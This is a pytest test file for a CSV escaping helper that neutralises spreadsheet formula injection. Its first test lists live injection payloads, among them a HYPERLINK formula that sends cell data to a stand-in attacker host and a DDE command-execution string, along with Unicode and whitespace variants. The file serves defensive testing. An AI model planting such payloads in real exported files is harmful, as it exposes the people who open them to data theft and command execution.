"""CSV output holds no formula that a spreadsheet would run, and its numbers stay numbers."""

import pytest

from brain.cli.csv_cells import quote_formula, quote_row


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
        "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)", "-",
        "+49 170 1234567", "-5-3", "--5",
    ],
)  # fmt: skip
def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(cell):
    """An apostrophe in front keeps the text readable and is no part of any formula."""
    assert quote_formula(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [-5, -5.25, 0, None, True, "-5", "+5", "-5.25", "-.5", "-1,234.5", "-1.234,5", "-1e-7", "-12 %", "-12%",
     "", "linkedin", "2026-11-22", "a=b", "O'Neill", "carousel @ night"],
)  # fmt: skip
def test_numbers_and_other_texts_stay_as_they_are(cell):
    """Also numbers that are written as text, with either decimal separator."""
    assert quote_row([cell]) == [cell]
